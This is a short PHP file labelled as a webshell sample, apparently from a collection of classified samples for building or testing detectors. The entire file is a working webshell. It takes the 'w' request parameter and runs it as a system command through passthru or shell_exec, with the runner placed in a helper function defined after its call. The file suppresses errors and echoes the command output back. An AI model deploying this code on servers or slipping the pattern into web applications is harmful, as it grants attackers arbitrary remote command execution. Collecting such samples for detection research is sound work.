<?php
/* Family: webshell/exec-request
 * Style: runner hidden in a helper function defined after its use
 * Trait: the request value is passed to a function whose parameter reaches passthru/shell_exec; the call comes first
 */
$what = $_GET['w'];
echo run_here($what);

function run_here($x)
{
	ob_start();
	if (function_exists('passthru')) {
		@passthru($x);
	} else {
		echo @shell_exec($x);
	}
	return ob_get_clean();
}
